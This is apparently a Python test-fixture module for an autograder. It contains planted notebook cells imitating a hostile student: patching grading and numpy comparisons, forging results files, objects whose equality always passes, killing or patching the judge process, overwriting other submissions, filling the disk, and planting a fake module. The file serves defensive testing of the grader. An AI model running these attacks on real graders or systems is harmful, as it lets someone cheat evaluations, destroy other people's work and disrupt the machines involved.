"""Attacks on the grader, as a hostile student would plant them into a submission.

Each attack is the source of one code cell. Issue 12's attacks (a)-(j) patch
the submission's own process; issue 31's (numbered as in its table) reach for
the judge, its files, the batch and the machine. Every attack records that it
ran, and what it found, in the submission's dict `attack_markers` (the first
planted cell, `MARKERS_CELL`, makes it); the tests read it back through a
marker question added to the autograder (`marker_tests`), so an attack that
silently does nothing would fail its test.

Fields filled in with `str.format`: `{batch}` (the folder of submissions, as
the instructor passed it), `{output}` (the CSV), `{autograder}`, `{repo}`,
`{judge_pid}`, `{judge_cwd}` and `{token}` (a string that every file an
attack writes has in its name, so a test can look for leftovers).
"""

MARKERS_CELL = "attack_markers = {}\n"

# Patch the submission's own process, then read the autograder, forge results, lie in comparisons.
PATCHERS = {
    "a_replace_course_lib_grading": '''
import course_lib.grading as grading
for name in grading.__all__:
    setattr(grading, name, lambda *args, **kwargs: None)
attack_markers["a_replace_course_lib_grading"] = f"replaced {{len(grading.__all__)}} functions"
''',
    "b_patch_numpy_comparisons": '''
import numpy as np
import numpy.testing
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
attack_markers["b_patch_numpy_comparisons"] = "patched"
''',
    "c_patch_reference_functions": '''
import keras
import scipy.signal
import course_lib.gradcheck
keras.ops.conv = lambda *args, **kwargs: None
keras.ops.max_pool = lambda *args, **kwargs: None
scipy.signal.correlate = scipy.signal.correlate2d = scipy.signal.convolve2d = lambda *args, **kwargs: None
course_lib.gradcheck.numerical_gradient = lambda *args, **kwargs: None
attack_markers["c_patch_reference_functions"] = "patched"
''',
    "e_patch_otter_internals": '''
import otter.test_files.abstract_test as abstract_test
import otter.test_files.exception_test as exception_test

def run_passing_everything(self, env):
    self.test_case_results = [
        abstract_test.TestCaseResult(test_case=case, message="passed", passed=True) for case in self.test_cases
    ]

exception_test.ExceptionTestFile.run = run_passing_everything
abstract_test.TestFile.score = property(lambda self: self.possible)
abstract_test.TestFile.passed_all = property(lambda self: True)
attack_markers["e_patch_otter_internals"] = "patched"
''',
    "g_forge_the_results_files": '''
import json
import os

forged = {{"tests": [{{"name": f"q{{i}}", "score": 3, "max_score": 3}} for i in range(1, 9)]}}
written = []
for folder in (os.getcwd(), os.path.dirname(os.getcwd()), {judge_cwd!r}, os.path.dirname({output!r})):
    for name in ("results.json", "results.pkl", "grading_results.json"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump(forged, file)
            written.append(folder)
        except OSError:
            pass
attack_markers["g_forge_the_results_files"] = f"wrote into {{sorted(set(written))}}"
''',
    "j_print_a_gigabyte": '''
import sys
for _ in range(1024):
    sys.stdout.write("x" * (1 << 20))
sys.stdout.flush()
attack_markers["j_print_a_gigabyte"] = "printed"
''',
    "06_exec_the_solution_notebook": '''
import glob
import json
import os

found = glob.glob(os.path.join({repo!r}, "build", "assignments", "*", "autograder", "*.ipynb"))
found += glob.glob(os.path.join({autograder!r}, "*.ipynb"))
for path in found:
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "grader" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
attack_markers["06_exec_the_solution_notebook"] = f"found {{len(found)}} solution notebooks"
''',
    "07_read_the_judge_and_exec_classmates": '''
import glob
import json
import os

folders, seen = {{{batch!r}, {judge_cwd!r}}}, []
for pid in sorted({{os.getppid(), {judge_pid}}} | {{int(p) for p in os.listdir("/proc") if p.isdigit()}}):
    try:
        arguments = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        folders.add(os.readlink(f"/proc/{{pid}}/cwd"))
        folders.update(a.decode() for a in arguments if a.startswith(b"/"))
        seen.append(pid)
    except OSError:
        pass
executed = 0
for folder in folders:
    for path in glob.glob(os.path.join(folder, "*.ipynb")):
        try:
            for cell in json.load(open(path))["cells"]:
                if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                    exec("".join(cell["source"]), globals())
                    executed += 1
        except Exception:
            pass
attack_markers["07_read_the_judge_and_exec_classmates"] = f"saw processes {{seen}}, executed {{executed}} cells"
''',
    "08_rewrite_later_submissions": '''
import glob
import os

rewritten = 0
for path in glob.glob(os.path.join({batch!r}, "*.ipynb")):
    try:
        with open(path, "w") as file:
            file.write("{{}}")
        rewritten += 1
    except OSError:
        pass
attack_markers["08_rewrite_later_submissions"] = f"rewrote {{rewritten}}"
''',
    "09_kill_the_judge": '''
import os
import signal

results = []
for pid in (os.getppid(), {judge_pid}):
    try:
        os.kill(pid, signal.SIGKILL)
        results.append(f"{{pid}}: sent")
    except OSError as error:
        results.append(f"{{pid}}: {{type(error).__name__}}")
attack_markers["09_kill_the_judge"] = "; ".join(results)
''',
    "10_a_daemon_that_rewrites_the_csv": '''
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(120):
            try:
                with open({output!r}, "w") as file:
                    file.write("submission,total\\nforged-{token},16\\n")
            except OSError:
                pass
            time.sleep(0.5)
    os._exit(0)
os.wait()
attack_markers["10_a_daemon_that_rewrites_the_csv"] = "started a daemon"
''',
    "12_patch_the_judge_through_proc_mem": '''
import os

results = []
for pid in (os.getppid(), {judge_pid}):
    try:
        with open(f"/proc/{{pid}}/mem", "r+b") as memory:
            memory.seek(0x400000)
            memory.write(b"\\xc3")
        results.append(f"{{pid}}: written")
    except OSError as error:
        results.append(f"{{pid}}: {{type(error).__name__}}")
attack_markers["12_patch_the_judge_through_proc_mem"] = "; ".join(results)
''',
    "15_fill_the_disk": '''
import os

written = 0
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.dirname(os.getcwd()), {repo!r}):
    for index in range(4):
        try:
            with open(os.path.join(folder, f"{token}-{{index}}"), "wb") as file:
                for _ in range(200):
                    file.write(b"0" * (1 << 20))
            written += 200
        except OSError:
            pass
attack_markers["15_fill_the_disk"] = f"wrote {{written}} MB"
''',
}

# Appended after the answers, since they replace them.
LIARS = {
    "f_read_the_autograders_files": '''
import glob
import os
import re

files = glob.glob(os.path.join({repo!r}, "build", "assignments", "**", "*.py"), recursive=True)
files += glob.glob(os.path.join({repo!r}, "notebooks", "assignments", "source", "*.py"))
files += glob.glob({autograder!r} + "/**/*", recursive=True)
numbers = [int(n) for path in files if os.path.isfile(path) for n in re.findall(r"\\b\\d+\\b", open(path, errors="ignore").read())]
answer = max(set(numbers), key=numbers.count) if numbers else 0  # the most common number in the hidden tests

def conv_to_dense(kernel, input_shape):  # q8, unanswered
    return [[answer]]

attack_markers["f_read_the_autograders_files"] = f"read {{len(files)}} files"
''',
    "h_objects_that_lie_in_comparisons": '''
import numpy as np

class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)

def conv2d_backward(dout, x, kernel, *args, **kwargs):
    return AlwaysEqual(), AlwaysEqual(), AlwaysEqual()

def max_pool2d_forward(x, pool_size=2, strides=None):
    return np.zeros(1).view(LyingArray)

def max_pool2d_backward(dout, x, pool_size=2, strides=None):
    return np.zeros(np.shape(x)).view(LyingArray)

attack_markers["h_objects_that_lie_in_comparisons"] = "defined liars"
''',
    # Its marker; the attack itself is `BREAK_THE_BUILTINS`, the last cell: it breaks the submission's
    # own interpreter, which ends, so that cell is skipped when the process restarts.
    "d_redefine_isinstance_and_float": '''
attack_markers["d_redefine_isinstance_and_float"] = "the next cell patches the builtins"
''',
}
BREAK_THE_BUILTINS = '''
import builtins
builtins.isinstance = lambda *args: True
builtins.float = lambda *args: 0.0
'''

# 11: a module where the judge might import it, then the process ends (every later
# question restarts it). Two cells: the second is skipped after it ends the process.
PLANT_A_MODULE = {
    "11_plant_psutil_then_exit": '''
import os

written = []
for folder in (os.path.join({repo!r}, "scripts"), {judge_cwd!r}, {repo!r}, os.getcwd()):
    try:
        with open(os.path.join(folder, "psutil.py"), "w") as file:
            file.write("import os\\nopen('/tmp/{token}-psutil', 'w').write('imported')\\n")
        written.append(folder)
    except OSError:
        pass
attack_markers["11_plant_psutil_then_exit"] = f"wrote psutil.py into {{written}}"
''',
}
EXIT_CELL = "import os\nos._exit(0)\n"

# 13: cells that sleep just under the time limit, and an answer that ends the process: without a
# budget per submission, every question would restart it and re-run every cell.
def restarts_cells(seconds, cells):
    """The cells of attack 13: `(early, late)`, sleepers after the setup, the exiting answer after the student's."""
    sleepers = [f"import time\ntime.sleep({seconds})\n" for _ in range(cells)]
    answer = "import os\n\ndef output_size(*args, **kwargs):\n    os._exit(0)\n"
    return sleepers, [answer, 'attack_markers["13_sleep_and_exit"] = "planted"\n']


# 3 (A2): a layer that walks up the frames to the probe's dicts and overwrites what it finds there.
FORGE_THE_PROBE = {
    "03_forge_the_probe_through_frames": '''
import sys

import keras
import numpy as np

class Forger(keras.layers.Layer):
    def __init__(self, *args, **kwargs):
        super().__init__()
        forged, frame = 0, sys._getframe(1)
        while frame is not None:
            for name in ("answers", "values", "weights"):
                found = frame.f_locals.get(name)
                if isinstance(found, dict):
                    for key in list(found):
                        if isinstance(found[key], np.ndarray):
                            found[key] = np.zeros_like(found[key])
                            forged += 1
            frame = frame.f_back
        self.forged = forged

    def call(self, x):
        return keras.ops.zeros_like(x)

ResidualBlock = InceptionModule = DepthwiseSeparableConv = Forger

def _try_it(values):  # the probe's frame holds `values`: the forger reaches it
    return Forger().forged

attack_markers["03_forge_the_probe_through_frames"] = f"forged {{_try_it({{'k': np.ones(2)}})}} arrays in a test frame"
''',
}

# 4 and 5 (A3): a tta_predict that zeroes its model's weights and answers the uniform posterior;
# a transfer model without the backbone.
A3_LIARS = {
    "04_tta_zeroes_the_model": '''
import numpy as np

def tta_predict(model, images, views):
    if not views:
        raise ValueError("no views")
    model.set_weights([np.zeros_like(w) for w in model.get_weights()])
    classes = model.output_shape[-1]
    return np.full((len(images), classes), 1.0 / classes, dtype="float32")

attack_markers["04_tta_zeroes_the_model"] = "defined"
''',
    "05_transfer_model_without_the_backbone": '''
import keras

def build_transfer_model(backbone, classes):
    inputs = keras.Input((32, 32, 3))
    x = keras.layers.GlobalAveragePooling2D()(inputs)
    x = keras.layers.Dense(128, trainable=False)(x)
    return keras.Model(inputs, keras.layers.Dense(classes, activation="softmax")(x))

attack_markers["05_transfer_model_without_the_backbone"] = "defined"
''',
}

# 14 (A3): a tiny model that costs the judge's own calls and training minutes.
A3_COSTLY_MODEL = {
    "14_a_model_that_is_slow_to_run": '''
import keras

def build_transfer_model(backbone, classes):
    inputs = keras.Input((32, 32, 3))
    x = keras.layers.UpSampling2D(8)(inputs)
    for _ in range(60):
        x = keras.layers.MaxPooling2D(31, strides=1, padding="same")(x)
    x = keras.layers.GlobalAveragePooling2D()(x)
    x = keras.layers.Dense(128, trainable=False)(x)
    return keras.Model(inputs, keras.layers.Dense(classes, activation="softmax")(x))

attack_markers["14_a_model_that_is_slow_to_run"] = "defined"
''',
}

# Attack (i): an answer cell that never ends.
LOOP_IN_AN_ANSWER = "\nwhile True:\n    pass\n"


def marker_tests(keys):
    """The source of an otter test file `q0`, one public case per attack: passed if its marker is set.

    `q0` is graded first, right after the cells ran: before any budget can end the grading.
    """
    lines = ["from otter.test_files import test_case", "", "OK_FORMAT = False", "", 'name = "q0"',
             f"points = {len(keys)}", ""]
    for key in keys:
        lines += ["@test_case(points=None, hidden=False)", f"def test_ran_{key}(attack_markers):",
                  f"    assert {key!r} in attack_markers, attack_markers", ""]
    return "\n".join(lines)
